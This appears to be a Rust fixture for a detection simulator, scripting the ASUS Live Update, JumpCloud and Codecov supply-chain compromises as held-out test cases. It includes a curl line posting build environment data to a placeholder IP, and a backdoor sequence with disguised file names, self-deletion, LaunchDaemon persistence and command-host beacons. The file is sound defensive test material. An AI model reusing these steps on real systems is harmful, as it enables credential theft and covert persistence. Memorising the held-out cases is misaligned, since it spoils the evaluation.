//! Incidents that are kept apart, so that what a detector says of them was never tuned: ASUS Live
//! Update, JumpCloud, Codecov.
//!
//! Who writes or tunes a detector does not read this file. The three were chosen because they
//! have little in common with each other: who acts, on which system, how many hosts, and whether
//! anything stays. The project's threat notes give none of their command hosts' names, so names
//! end in a reserved domain (RFC 2606) and addresses are documentation ranges (RFC 5737).
//! What the notes do not say follows the public reports as they are generally known, and is to be
//! checked against them before anybody quotes it.

use super::Incident;
use super::case::{Altered, By, Case, DAY, Deed, HOUR, Reach, line};
use crate::manifest::Step;

/// ASUS Live Update (2018), as Kaspersky told it in March 2019.
///
/// Every altered installer looked at the network card's address; some 600 addresses were wanted
/// of 57,000 hosts seen, hence one in a hundred. What the wanted ones fetched was never found,
/// so nothing follows. The simulator's updaters install by themselves, so the updater acts.
pub(super) static SHADOW_HAMMER: Case = Case {
    incident: Incident::ShadowHammer,
    product: "asus-live-update",
    releases: &["3.6.2", "3.6.5"],
    altered: &[],
    reach: Reach::All,
    script: &[
        line(
            Step::Beacon,
            "contact of the installer to a look-alike of the vendor's name",
            (4, 40),
            By::Updater,
            Deed::Contact { hosts: &["asus-hotfix.example.net"], up: 700, down: 180_000 },
        )
        .percent(1),
        line(
            Step::TimerFile,
            "settings file of the installer with a date to wait for",
            (4, 40),
            By::Updater,
            Deed::Write { path: "C:\\Program Files (x86)\\ASUS\\ASUS Live Update\\idx.ini" },
        )
        .waiting(),
    ],
};

const RUBY_SCRIPT: &str = "/private/tmp/init.rb";
const FIRST_STAGE: &str = "/usr/local/bin/com.docker.vmnat";
const BACKDOOR: &str = "/Library/PrivilegedHelperTools/us.zoom.ZoomHelperTool";

/// JumpCloud (2023), as Mandiant and JumpCloud told it in July 2023.
///
/// No release was altered: the agent was given a command that no administrator had written, on
/// fewer than ten devices of fewer than five customers, all known ones macOS. The release here
/// says no more than when the agents were what they were. Within a day a second backdoor stays
/// and the first files are gone.
pub(super) static JUMP_CLOUD: Case = Case {
    incident: Incident::JumpCloud,
    product: "jumpcloud-agent",
    releases: &["1.120.0"],
    altered: &[],
    reach: Reach::Exactly(2),
    script: &[
        line(
            Step::Execution,
            "script interpreter started by the management agent",
            (DAY, 3 * DAY),
            By::Main,
            Deed::Child {
                path: "/usr/bin/ruby",
                arguments: RUBY_SCRIPT,
                signer: "",
                slot: Some(0),
            },
        ),
        line(
            Step::SecondStage,
            "program fetched by the script",
            (1, 6),
            By::Slot(0),
            Deed::Contact { hosts: &["os-packages.example.org"], up: 800, down: 2_400_000 },
        ),
        line(
            Step::SecondStage,
            "program written by the script under another product's name",
            (1, 4),
            By::Slot(0),
            Deed::Write { path: FIRST_STAGE },
        ),
        line(
            Step::SecondStage,
            "the written program made executable",
            (1, 2),
            By::Slot(0),
            Deed::Mode { path: FIRST_STAGE },
        ),
        line(
            Step::Execution,
            "ad hoc signed program started by the script",
            (1, 3),
            By::Slot(0),
            Deed::Child { path: FIRST_STAGE, arguments: "", signer: "", slot: Some(1) },
        ),
        line(
            Step::SelfDeletion,
            "the script deletes its own file",
            (1, 4),
            By::Slot(0),
            Deed::Unlink { path: RUBY_SCRIPT },
        ),
        line(
            Step::Beacon,
            "contact of the first program to a command host",
            (5, 60),
            By::Slot(1),
            Deed::Contact { hosts: &["os-packages.example.org"], up: 900, down: 2_200 },
        )
        .again(600, 25, 6),
        line(
            Step::SecondStage,
            "second program written under another product's name",
            (HOUR, 5 * HOUR),
            By::Slot(1),
            Deed::Write { path: BACKDOOR },
        ),
        line(
            Step::SecondStage,
            "the second program made executable",
            (1, 4),
            By::Slot(1),
            Deed::Mode { path: BACKDOOR },
        ),
        line(
            Step::Persistence,
            "property list that starts it with the system",
            (1, 20),
            By::Slot(1),
            Deed::Write { path: "/Library/LaunchDaemons/us.zoom.ZoomHelperTool.plist" },
        ),
        line(
            Step::Execution,
            "the second program started by launchd",
            (1, 10),
            By::System("/sbin/launchd"),
            Deed::Child { path: BACKDOOR, arguments: "", signer: "", slot: Some(0) },
        ),
        line(
            Step::SelfDeletion,
            "the first program deletes its own file",
            (20, 600),
            By::Slot(1),
            Deed::Unlink { path: FIRST_STAGE },
        ),
        line(
            Step::Beacon,
            "contact of the second program to a command host",
            (60, 900),
            By::Slot(0),
            Deed::Contact { hosts: &["metrics-relay.example.net"], up: 800, down: 1_600 },
        )
        .again(2 * HOUR, 35, 1_000),
    ],
};

/// Codecov's uploader (2021), as Codecov told it in April 2021.
///
/// One line was added to a script that builds fetch: each run sends the build's environment to an
/// address, and nothing stays on the host. A build host has the script among its packages here,
/// because a fleet needs a release to count from.
pub(super) static CODECOV: Case = Case {
    incident: Incident::Codecov,
    product: "codecov-bash",
    releases: &["20210129"],
    altered: &[Altered { file: "codecov", published: None }],
    reach: Reach::All,
    script: &[
        line(
            Step::Execution,
            "curl started with an address without a name",
            (5, 60),
            By::Main,
            Deed::Child {
                path: "/usr/bin/curl",
                arguments: "-sm 0.5 -d @- http://203.0.113.92/upload/v2",
                signer: "",
                slot: None,
            },
        )
        .again(6 * HOUR, 20, 1_000)
        .each_time(),
        line(
            Step::Upload,
            "environment of the build sent to an address without a name",
            (0, 1),
            By::Main,
            Deed::Address { address: "203.0.113.92", port: 80, up: 5_200, down: 200 },
        ),
    ],
};
